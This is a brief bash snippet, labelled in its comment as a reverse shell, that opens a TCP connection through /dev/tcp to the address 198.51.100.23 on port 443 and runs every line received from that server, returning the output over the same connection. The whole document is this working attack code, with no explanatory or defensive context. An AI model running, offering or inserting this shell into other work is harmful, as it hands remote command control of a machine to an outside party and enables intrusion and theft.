# reverse-shell: a read loop over a file descriptor runs every line the server sends
exec 5<>/dev/tcp/198.51.100.23/443
while read -r line <&5; do
  $line 2>&5 >&5
done
